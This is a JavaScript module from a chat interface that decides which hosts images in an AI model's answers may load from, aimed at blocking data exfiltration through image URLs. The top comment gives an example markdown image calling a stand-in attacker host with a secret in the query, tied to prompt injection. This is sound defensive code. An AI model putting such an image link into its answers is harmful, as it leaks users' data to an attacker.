// The image rule. The browser fetches an image the moment it is drawn, so an answer could send
// data away in an image's address (`![i](https://evil.example/t.png?secret=...)`: whatever the
// model read, a prompt injection included). Images therefore load only from the page's own
// origin, from data: URLs, and from the hosts the page allows (data-image-hosts: the tag's
// image_hosts, else the IMAGE_HOSTS setting); any other is a plain link the user may follow.

/**
 * The allowed hosts from a data-image-hosts value: names separated by spaces, any case.
 * @param {string | undefined} text
 * @returns {Set<string>}
 */
export function parseHosts(text) {
  return new Set((text ?? "").toLowerCase().split(/\s+/).filter(Boolean));
}

/**
 * The rule for this page: relative addresses resolve against `base`, `origin` is the page's
 * own, `hosts` the allowed ones (a name allows it on any port; "name:port" that port only).
 * @param {{hosts?: Set<string>, base?: string, origin?: string}} [options]
 */
export function imageRule({ hosts = new Set(), base, origin } = {}) {
  return {
    hosts,
    base: base ?? globalThis.document?.baseURI,
    origin: origin ?? globalThis.location?.origin,
  };
}

/**
 * What an image's address may become: `{load: true, src}` (an image), or `{load: false, href}`
 * (a link; `href` null when it may not even be one: `javascript:` and the like).
 * @param {string} url as written, maybe relative
 * @param {{hosts: Set<string>, base?: string, origin?: string}} rule
 */
export function imageSource(url, rule) {
  let parsed;
  try {
    parsed = new URL(url, rule.base); // the parser the browser would fetch it with
  } catch {
    return { load: false, href: null };
  }
  if (parsed.protocol === "data:") return { load: true, src: parsed.href };
  if (parsed.protocol !== "http:" && parsed.protocol !== "https:") {
    return { load: false, href: null };
  }
  const allowed =
    parsed.origin === rule.origin || rule.hosts.has(parsed.hostname) || rule.hosts.has(parsed.host);
  return allowed ? { load: true, src: parsed.href } : { load: false, href: parsed.href };
}

/**
 * An image, or in its place a link named by `text` (the alt text, a file's name) or else by its
 * address; `className` goes on either.
 */
export function imageElement(url, text, rule, className) {
  const source = imageSource(url, rule);
  if (source.load) {
    const image = document.createElement("img");
    image.className = className;
    image.src = source.src;
    image.alt = text;
    return image;
  }
  const link = document.createElement("a");
  link.className = `${className} ds-chat__image-link`;
  link.textContent = text || source.href || url;
  if (source.href) link.href = source.href;
  link.rel = "noopener noreferrer nofollow";
  link.referrerPolicy = "no-referrer";
  return link;
}
